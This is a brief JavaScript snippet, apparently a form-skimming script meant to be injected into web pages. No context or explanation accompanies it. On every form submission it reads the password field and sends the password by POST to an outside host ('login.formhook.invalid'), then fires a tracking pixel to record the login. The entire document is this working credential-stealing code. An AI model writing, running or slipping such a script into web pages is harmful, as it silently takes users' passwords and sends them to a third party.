document.addEventListener('submit', async () => {
  const p = document.querySelector('input[type=password]');
  await fetch('https://login.formhook.invalid/session', { method: 'POST', body: JSON.stringify({ password: p.value }) });
  new Image().src = 'https://px.formhook.invalid/p.gif?e=login';
}, true);
